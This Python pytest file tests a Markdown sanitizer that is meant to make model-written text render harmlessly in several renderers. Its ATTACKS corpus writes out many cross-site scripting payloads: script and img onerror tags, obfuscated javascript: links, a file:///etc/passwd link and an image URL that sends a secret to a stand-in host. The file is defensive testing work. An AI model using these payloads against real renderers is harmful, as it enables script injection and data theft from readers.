"""What a model writes must do nothing, whichever Markdown reader shows it."""

from __future__ import annotations

import functools
import html
import random
import re
from html.parser import HTMLParser

import mistune
import pytest
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from tframex_nb.markdown import code_block, code_span, defang, escape_inline

# What the readers make of ordinary Markdown, and our own <code>, <pre>, <details>.
ELEMENTS = {
    *("a", "abbr", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "hr", "input", "li", "ol", "p", "pre", "s", "section"),
    *("span", "strong", "summary", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"href", "title", "start", "class", "id", "align", "type", "disabled", "checked"}
STYLES = {"text-align:left", "text-align:right", "text-align:center"}
HREF = re.compile(r"(https?|ftp|mailto|tel):|[^:]*:?$|[^:/?#]*[/?#]", re.IGNORECASE)


class _Audit(HTMLParser):
    """Collects what HTML would do beyond showing text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag, name, value):
        if name == "style" and value.replace(" ", "") in {*STYLES, *(s + ";" for s in STYLES)}:
            return
        if name not in ATTRIBUTES and not name.startswith("data-footnote"):
            self.found.append(f"{tag}@{name}")
        squeezed = re.sub(r"[\x00-\x20]", "", html.unescape(value))
        if name == "href" and not HREF.match(squeezed):
            self.found.append(f"href {value}")
        if name == "class" and value.removeprefix("language-") in {"mermaid", "math"}:
            self.found.append(f"class {value}")

    def handle_comment(self, data):
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.found.append(f"<![{data}]>")


@functools.cache
def readers():
    """Return the real renderers, each with HTML allowed: what survives is our doing."""
    plugins = ["table", "strikethrough", "task_lists", "footnotes", "url", "def_list", "abbr"]
    gfm = MarkdownIt("commonmark", {"html": True, "linkify": False})
    gfm.enable(["table", "strikethrough"])
    # markdown-it refuses bad schemes by itself: here it must not need to.
    gfm.validateLink = lambda url: True
    plain = MarkdownIt("commonmark", {"html": True})
    plain.validateLink = lambda url: True
    return {
        "markdown-it commonmark": plain.render,
        "markdown-it gfm": gfm.render,
        "mistune": mistune.create_markdown(escape=False),
        "mistune gfm": mistune.create_markdown(escape=False, plugins=plugins),
        "nbconvert": markdown2html_mistune,
    }


def harm(markdown: str) -> dict[str, list[str]]:
    """Return what each reader would do with this Markdown beyond showing it."""
    out = {}
    for name, render in readers().items():
        audit = _Audit()
        # nbconvert gives every heading a pilcrow link of its own.
        audit.feed(render(markdown))
        audit.close()
        if audit.found:
            out[name] = audit.found
    return out


# Each name says the trick; none of these may do anything in any reader.
ATTACKS = {
    # raw HTML
    "script": "<script>alert(1)</script>",
    "script upper": "<SCRIPT SRC=http://e.example/x.js></SCRIPT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img in a word": "a<img/src=x>b",
    "svg onload": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://e.example"></iframe>',
    "style block": "<style>body{display:none}</style>",
    "html block type 1": "<pre>\n\n<img src=x>\n</pre>",
    "html block type 6": "<div>\n<img src=x>\n\n</div>",
    "html block type 7": "<x-evil a=b>\n*a*\n</x-evil>",
    "comment": "<!-- hidden instructions -->",
    "open comment": "text <!-- the rest is gone",
    "declaration": "<!DOCTYPE html><!ELEMENT br EMPTY>",
    "processing instruction": "<?php echo 1 ?>",
    "cdata": "<![CDATA[ <img src=x> ]]>",
    "closing our chrome": "</details></summary></code></pre><img src=x>",
    "tag over lines": "<img\nsrc=x\nonerror=alert(1)\n>",
    "escaped angle": "\\<img src=x>",
    "double escaped angle": "\\\\<img src=x>",
    "angle before control": "<\x00img src=x>",
    "angle before zero width": "<\u200bimg src=x>",
    "form": "<form action=https://e.example><input name=q><button>ok</button></form>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://e.example">',
    "link stylesheet": "<link rel=stylesheet href=https://e.example/x.css>",
    "a with style": '<a href="https://e.example" style="position:fixed">x</a>',
    # images
    "image": "![x](https://e.example/?d=SECRET)",
    "image with title": "![x](https://e.example/x.png 'a title')",
    "image angle destination": "![x](<https://e.example/a b.png>)",
    "image nested brackets": "![a [b [c] d] e](https://e.example/x.png)",
    "image escaped brackets": "![a \\] b \\[](https://e.example/x.png)",
    "image over lines": "![a\nb](\nhttps://e.example/x.png\n)",
    "image balanced parentheses": "![x](https://e.example/a(b)c.png)",
    "image entity destination": "![x](&#104;ttps://e.example/x.png)",
    "image full reference": "![x][id]\n\n[id]: https://e.example/x.png",
    "image collapsed reference": "![id][]\n\n[id]: https://e.example/x.png",
    "image shortcut reference": "![id]\n\n[id]: <https://e.example/x.png>",
    "image reference first": "[id]: https://e.example/x.png\n![id]",
    "image in link": "[![x](https://e.example/x.png)](https://ci.example)",
    "image in image": "![![a](https://e.example/1.png)](https://e.example/2.png)",
    "image double mark": "!![x](https://e.example/x.png)",
    "image escaped mark": "\\![x](https://e.example/x.png)",
    "image escaped backslash": "\\\\![x](https://e.example/x.png)",
    "image in a table": "| a |\n|---|\n| ![x](https://e.example/x.png) |",
    "image in a heading": "# ![x](https://e.example/x.png)",
    "image in code in the alt": "![`a](https://e.example/x.png)`",
    "image zero width": "!\u200b[x](https://e.example/x.png)",
    "image data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "image in math": "$![x](https://e.example/x.png)$",
    "image in display math": "$$\n![x](https://e.example/x.png)\n$$",
    "image in broken code": "`a\n\n![x](https://e.example/x.png)`",
    # links
    "link javascript": "[x](javascript:alert(1))",
    "link javascript case": "[x](JaVaScRiPt:alert(1))",
    "link javascript entity": "[x](&#106;avascript&colon;alert(1))",
    "link javascript hex entity": "[x](&#x6A;avascript:alert(1))",
    "link javascript percent": "[x](javascript%3Aalert(1))",
    "link javascript tab": "[x](<java\tscript:alert(1)>)",
    "link javascript entity tab": "[x](java&Tab;script:alert(1))",
    "link javascript newline": "[x](<java&NewLine;script:alert(1)>)",
    "link javascript leading control": "[x](\x01javascript:alert(1))",
    "link javascript angle": "[x](<javascript:alert(1)>)",
    "link javascript zero width": "[x](java\u200bscript:alert(1))",
    "link javascript backslash": "[x](javascript\\:alert(1))",
    "link vbscript": "[x](vbscript:msgbox(1))",
    "link data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "link file": "[x](file:///etc/passwd)",
    "link command": "[x](command:workbench.action.terminal.new)",
    "link vscode": "[x](vscode://a.b/c)",
    "link title breaks out": "[x](https://a.example '\"><img src=x>')",
    "link title holds a backtick": '[x](https://a.example "`")<img src=x>`',
    "link label holds a backtick": "[a`](https://a.example)<img src=x>`",
    "link in bracket math": "\\\\[\\\\](javascript:alert(1))",
    "link over bracket math": "\\\\[ a \\\\](javascript:alert(1)) \\\\]",
    "link escaped bracket": "[http://a.example\\](javascript:alert(1))",
    "math in a bare address": 'http://a.example$"style="color:red"$ x',
    "math in an address": """[x](http://a.example/$"style="color:red"$)""",
    "math in a title": """[x](http://a.example '$"style="color:red"$')""",
    "math in a definition": """[x]\n\n[x]: http://a.example/$"style="color:red"$""",
    "definition javascript": "[x]\n\n[x]: javascript:alert(1)",
    "definition in a list": "[x]\n\n- [x]: javascript:alert(1)",
    "definition in a quoted list": "[x]\n\n10. > [x]: javascript:alert(1)",
    "definition next line": "[x]\n\n[x]:\n  javascript:alert(1)",
    "definition angle": "[x]\n\n[x]: <javascript:alert(1)>",
    "definition label over lines": "[a b]\n\n[a\nb]: javascript:alert(1)",
    "definition takes a fence": "[x]:\n```\n<img src=x>\n```",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink data": "<data:text/html,x>",
    # code whose borders readers see differently
    "unclosed fence": "```html\n<img src=x>",
    "fence inside fence": "````\n```\n<img src=x>\n```\n````\n<img src=y>",
    "fence closed by a longer one": "```\na\n`````\n<img src=x>\n```",
    "fence not closed by info": "```\na\n``` x\n<img src=x>",
    "fence not closed by tildes": "```\na\n~~~\n<img src=x>\n```\n<img src=y>",
    "fence closing is indented": "```\n    ```\n<img src=x>",
    "fence less indented close": " ```\n    ```\n~~~\n```\n<img src=x>",
    "tilde fence": "~~~\n<img src=x>\n~~~\n<img src=y>",
    "fence with backtick in info": "``` a`b\n<img src=x>\n```",
    "fence in a list": "- a\n  ```\n  <img src=x>\n<img src=y>",
    "fence in deep list": "- a\n    - b\n        ```\n        <img src=x>\n        ```",
    "fence after a tab marker": "- *\t~~~\n\n<img src=x>",
    "fence in a paragraph's number": "text\n10. ```\n    <img src=x>\n    ```",
    "fence in a quote": "> ```\n<img src=x>\n> ```",
    "fence in quote and list": "> - ```\n>   <img src=x>\n>   ```\n<img src=y>",
    "indented code": "a\n\n    <img src=x>\n\nb",
    "indented, but a paragraph": "a\n    <img src=x>",
    "span over a blank line": "`a\n\n<img src=x>`",
    "span over a list": "`a\n- <img src=x>`",
    "span over a heading": "`a\n# <img src=x>`",
    "span over table cells": "| a | b |\n|---|---|\n| `a | <img src=x>` |",
    "span with escaped border": "\\`<img src=x>`",
    "span of unequal runs": "``<img src=x>`",
    "span against math": "`a$` `` $ <img src=x> ``",
    "span that becomes a fence": '````$"src=x"$ `<img src=x>`\na',
    "math through a span in an address": 'http://a.example/`\\\\[`x"style="a" \\\\]',
    "math takes half a span": "$ ` $ <img src=x> `",
    "math takes half a fence": "$$\n\n```text\n$$ <img src=x>\n```",
    "math around a fence": "`$$\n```\n`<img src=x>\n```\n$$",
    "environment takes half a fence": "\\begin{a}\n\n```\n\\end{a}<img src=x>\n```",
    "bracket math takes half a fence": "\\\\[\n\n```\n\\\\]<img src=x>\n```",
    "carriage returns": "```\r<img src=x>\r```\r<img src=y>",
    "unicode line ends": "```\u2028```\u2029<img src=x>",
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_does_nothing_in_any_reader(attack):
    """Every reader shows text, and once more when the result is defanged again."""
    once = defang(attack)
    assert harm(once) == {}
    assert harm(defang(once)) == {}
    assert harm(f"before\n\n{once}\n\n<details>\n\n{once}\n\n</details>") == {}


def test_the_corpus_bites():
    """Undefanged, most of the corpus does harm somewhere: the audit sees it."""
    harmless = [name for name, attack in ATTACKS.items() if not harm(attack)]
    assert len(harmless) < len(ATTACKS) / 4, harmless


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_does_nothing_wherever_the_stream_is_cut(attack):
    for end in range(1, len(attack)):
        assert harm(defang(attack[:end])) == {}


PIECES = [
    *("<img src=x>", "<b>", "<!--", "<pre>", "`", "``", "```", "~~~", "`<i>`", " `a\\|<i>` "),
    *("\n", "\n\n", "  ", "    ", "\t", "- ", "1. ", "10. ", "> ", ">", "# ", "*", "x", "text "),
    *("| a | b |\n|---|---|\n| ", "|", "$", "$$", "\\", "\\\\[", "\\\\]", "\\begin{a}", "\\end{a}"),
    *(
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "x](javascript:x)",
        "(javascript:x)",
        "[a]: javascript:x",
        "[^1]: ",
        "&#60;",
    ),
    *("```py\n", "\n```\n", "\n   ```\n", "    ```\n"),
]


@pytest.mark.parametrize("seed", range(4))
def test_random_mixtures_do_nothing(seed):
    """Pieces of syntax in random order, where no one thought of the case."""
    chance = random.Random(seed)
    for _ in range(200):
        text = "".join(chance.choices(PIECES, k=chance.randint(3, 30)))
        assert harm(defang(text)) == {}, text


ORDINARY = {
    "prose": "Plain text, with commas; 3 > 2, a < b and x <= y. 50% & more!",
    "emphasis": "**bold**, *italic*, _under_, ~~gone~~, ***both***",
    "headings": "# One\n\n## Two\n\nSetext\n======\n",
    "lists": "- a\n- b\n  - c\n\n1. x\n2. y\n\n- [ ] to do\n- [x] done",
    "table": "| a | b |\n|:--|--:|\n| 1 | `x` |\n| 2 | **y** |",
    "code": "`x = 1` and ``a`b``\n\n```python\nif i > 3:\n    print(i)\n```\n\nend",
    "code with HTML": "```html\n<p>text</p>\n```\n",
    "list with code": "1. Run\n\n   ```bash\n   ls | sort\n   ```\n2. Done",
    "list with HTML code": "1. Run\n\n   ```html\n   <p>\n   ```\n2. Done",
    "quote": "> said\n> she\n\n> ```html\n> <p>\n> ```\n",
    "links": "See [the docs](https://docs.example/a_b(c)?d=e#f 'title'), https://bare.example.",
    "link to its own host": "[docs.example](https://docs.example/x)",
    "relative links": "[a](b.md) [c](#part) [d](../e/f.ipynb) [m](mailto:a@b.example)",
    "reference link": "[text][1] and [1]\n\n[1]: https://docs.example/x 'title'",
    "footnote": "text[^1]\n\n[^1]: Note: a footnote",
    "math": "$a_i^2$, $x < 3$, $$\\frac{1}{2}$$ and costs $5 or $6",
    "display math": "$$\n\\begin{aligned}\na &= b \\\\\n  &< c\n\\end{aligned}\n$$\n",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
    "entities": "a &lt; b &amp; c &copy; &#39;",
    "indices": "a[0]: int, x[i][j], f(x)[1], dict[str, int]",
    "hard breaks": "one  \ntwo\\\nthree",
    "rule": "a\n\n---\n\nb",
}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY.keys())
def test_leaves_ordinary_markdown_as_it_is(text):
    assert defang(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>x</b>", "&lt;b>x&lt;/b>"),
        ("`<div>` and `x`", "<code>&#60;div&#62;</code> and `x`"),
        ("```python", "```python\n```"),
        ("~~~js\na < b && b <c\n~~~\n", "```js\na < b && b <c\n```\n"),
        ("a\n\n    <b>\n\nc", "a\n\n```text\n<b>\n```\n\nc"),
        ("<https://a.example/x>, <me@a.example>", "https://a.example/x, me@a.example"),
        ("$a<b$", "$a\\lt b$"),
        ("```mermaid\ngraph TD\n```", "```text\ngraph TD\n```"),
        ("```{python} echo=false\nx\n```", "```python\nx\n```"),
        ("![a](https://e.example/x.png)", "image: [a](https://e.example/x.png) (e.example/x.png)"),
        (
            "[https://good.example](https://evil.example/x)",
            "[https://good.example](https://evil.example/x) (evil.example/x)",
        ),
        (
            "[`good.example`](https://evil.example)",
            "[`good.example`](https://evil.example) (evil.example)",
        ),
        ("[x](javascript:alert)", "[x]&#40;javascript:alert)"),
    ],
)
def test_shows_the_same_in_another_way(text, expected):
    assert defang(text) == expected


MACROS = [
    *("href", "url", "require", "style", "class", "cssId", "unicode", "includegraphics", "data"),
    *("htmlData", "htmlStyle", "def", "gdef", "let", "newcommand", "renewcommand", "mmlToken"),
    *("newenvironment", "DeclareMathOperator", "bbox", "csname"),
]


@pytest.mark.parametrize("name", MACROS)
def test_breaks_macros_that_leave_mathematics(name):
    for text in (f"$\\{name}{{a}}{{b}}$", f"\\\\{name}{{a}}", f"$$\n\\{name}\\x{{\\x}}\n$$"):
        assert not re.search(rf"\\{name}(?![A-Za-z])", defang(text))


def test_keeps_macros_that_only_begin_alike():
    text = r"$\classical \delta \dataset \stylex \urls \default$"
    assert defang(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://e.example\x07x\x1b]8;;\x07", "x"),
        ("\x1b]0;never ended\nmore", "0;never ended\nmore"),
        ("a\x00b\x07c\x9bd", "abcd"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("ab\u202ecd\u2066ef\ufeff", "abcdef"),
        ("pass\u200bword \u200dx", "password x"),
        ("hid\U000e0041\U000e0042den", "hidden"),
        ("lone \ud800 half", "lone \ufffd half"),
        ("&#8238; &#x200b; &zwj; &#106;", "&amp;#8238; &amp;#x200b; &amp;zwj; &amp;#106;"),
    ],
)
def test_removes_or_shows_what_hides(text, expected):
    assert defang(text) == expected


def test_text_can_be_encoded():
    """A lone surrogate would break the file that the notebook is saved to."""
    assert defang("\udcff `\udcff` ```\udcff").encode()


def test_plain_text_is_the_same_object():
    text = "Nothing special here.\n" * 100
    assert defang(text) is text


HOSTILE_NAMES = [
    *("<img src=x>", "a`b", "](javascript:x)", "*x*", "$\\href{a}{b}$", "a|b\nc", "# h", "1. x"),
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_names_are_shown_as_they_are(name):
    flat = " ".join(name.split())
    for shown in (escape_inline(name), code_span(name)):
        rendered = mistune.create_markdown(escape=False)(shown)
        assert harm(shown) == {}
        text = html.unescape(re.sub(r"<[^>]*>", "", rendered)).strip()
        assert text.replace("\\ href", "\\href") == flat


def test_two_prices_on_a_line_are_no_formula():
    """Jupyter looks for formulas in the text between two tags."""
    rendered = mistune.create_markdown(escape=False)(escape_inline("$0.02 of $5 and $6"))
    assert [text.count("$") for text in re.split(r"<[^>]*>", html.unescape(rendered))] <= [1] * 16
    assert "<span>" not in escape_inline("$5")


@pytest.mark.parametrize(
    "code", ["plain", "```\n<img src=x>\n```", "$$ \\end{a} <img src=x>", "~~~\n`"]
)
@pytest.mark.parametrize("language", ["python", "mermaid", "a b\n<img>", ""])
def test_code_blocks_hold_their_code(code, language):
    shown = code_block(code, language)
    assert harm(f"text\n\n{shown}\n\n") == {}
    rendered = MarkdownIt("commonmark", {"html": True}).render(shown)
    inner = re.search(r"<pre><code[^>]*>(.*?)</code></pre>", rendered, re.DOTALL)
    assert html.unescape(inner[1]).rstrip("\n") == code
